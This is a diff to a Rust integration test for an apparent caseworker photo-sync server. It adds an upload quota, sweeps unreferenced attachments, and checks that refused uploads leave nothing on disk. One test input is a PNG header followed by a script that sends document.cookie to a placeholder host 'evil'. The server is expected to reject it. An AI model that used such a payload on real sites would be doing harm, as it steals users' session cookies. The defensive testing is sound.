@@ -44,6 +44,10 @@ struct County {
 
 impl County {
     async fn start(database: std::path::PathBuf) -> County {
+        County::start_with(database, server::Limits::default()).await
+    }
+
+    async fn start_with(database: std::path::PathBuf, limits: server::Limits) -> County {
         let replica = Replica::open(&database).unwrap();
         let store = SqliteStore::new(replica).unwrap();
         let attachments = AttachmentStore::new(database.with_extension("attachments"));
@@ -51,7 +55,7 @@ impl County {
         let url = format!("http://{}", listener.local_addr().unwrap());
         let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
         let task = tokio::spawn(async move {
-            server::serve(listener, server::router(Box::new(store), attachments), async {
+            server::serve(listener, server::router_with(Box::new(store), attachments, limits), async {
                 let _ = stopped.await;
             })
             .await
@@ -528,7 +532,11 @@ async fn a_moved_caseworker_pushes_their_last_edits_then_loses_the_old_village_a
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_visit_photo_travels_once_to_the_county_and_on_to_the_station_but_not_beyond() {
     let dir = tempfile::tempdir().unwrap();
-    let mut county = County::start(county_database(&dir)).await;
+    // Room for one stray upload per device, no more.
+    let (stray, another) = (crate::support::png(30, 20), crate::support::png(31, 20));
+    let quota = (stray.len() + another.len() - 1) as u64;
+    let limits = server::Limits { unreferenced_quota_bytes: quota, ..Default::default() };
+    let mut county = County::start_with(county_database(&dir), limits).await;
     let codes = county.admin(|store| {
         [
             code_for(store, Role::Caseworker, &[VILLAGE_A], "刘芳"),
@@ -543,9 +551,10 @@ async fn a_visit_photo_travels_once_to_the_county_and_on_to_the_station_but_not_
 
     // The caseworker visits an elder and takes a photo.
     let photos = AttachmentStore::new(dir.path().join("caseworker-photos"));
-    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
-    png.extend_from_slice(b"a photo of the kitchen stove");
+    let png = crate::support::png(64, 48);
     let photo = photos.put(&png).unwrap();
+    // A photo picked for a form that was then dropped: no record refers to it, it stays here.
+    photos.put(&crate::support::png(8, 8)).unwrap();
     {
         let mut replica = caseworker.replica.lock().unwrap();
         let elder = store_elder(&mut replica, elder(&mut Rng::new(4), VILLAGE_A)).unwrap();
@@ -574,16 +583,55 @@ async fn a_visit_photo_travels_once_to_the_county_and_on_to_the_station_but_not_
         .await
         .unwrap();
     assert_eq!(refused.status().as_u16(), 403);
-    // Bytes that do not hash to their name are refused.
-    let forged = reqwest::Client::new()
-        .put(format!("{}/v1/attachments/{}", county.url, "0".repeat(64)))
-        .bearer_auth(&elsewhere.token)
-        .body(png.clone())
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(forged.status().as_u16(), 400);
+    // Uploads the server refuses leave nothing on its disk: bytes that do not hash to their
+    // name, and a picture's header followed by a script (named by its true hash).
+    let county_files = county.database.with_extension("attachments");
+    let files_on_disk = || {
+        walk(&county_files)
+            .into_iter()
+            .map(|path| path.file_name().unwrap().to_string_lossy().into_owned())
+            .collect::<Vec<_>>()
+    };
+    let before = files_on_disk();
+    assert_eq!(before, vec![photo.sha256.clone()]);
+    let put = |token: String, name: String, body: Vec<u8>| {
+        let url = format!("{}/v1/attachments/{name}", county.url);
+        async move { reqwest::Client::new().put(url).bearer_auth(token).body(body).send().await.unwrap().status().as_u16() }
+    };
+    assert_eq!(put(elsewhere.token.clone(), "0".repeat(64), png.clone()).await, 400);
+    let mut script = png[..16].to_vec();
+    script.extend(b"<script>document.location='http://evil/'+document.cookie</script>");
+    assert!((script.len() as u64) < quota, "refused for what it is, not for the quota");
+    assert_eq!(put(elsewhere.token.clone(), sha256_hex(&script), script).await, 400);
+    assert_eq!(files_on_disk(), before);
+
+    // A picture no record refers to is held within the device's quota, and no further.
+    assert_eq!(put(elsewhere.token.clone(), sha256_hex(&stray), stray.clone()).await, 204);
+    assert_eq!(put(elsewhere.token.clone(), sha256_hex(&another), another).await, 507);
+    // Once the window has passed with no record referring to it, it is deleted; the visit's
+    // photo stays.
+    let sweep = AttachmentStore::new(county_files.clone());
+    let later = xianglin_schema::clock::now() + chrono::Duration::hours(25);
+    assert_eq!(county.admin(|store| server::collect_unreferenced(store, &sweep, later).unwrap()), 1);
+    assert_eq!(files_on_disk(), before);
     county.stop().await;
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest;
+    sha2::Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
+}
+
+/// Every file under `root` (temporary ones included).
+fn walk(root: &std::path::Path) -> Vec<std::path::PathBuf> {
+    let Ok(entries) = std::fs::read_dir(root) else { return Vec::new() };
+    let mut files = Vec::new();
+    for entry in entries {
+        let path = entry.unwrap().path();
+        if path.is_dir() { files.extend(walk(&path)) } else { files.push(path) }
+    }
+    files.sort();
+    files
 }
 
 /// A loopback proxy to `upstream` that cuts every connection once `up` bytes went to the server
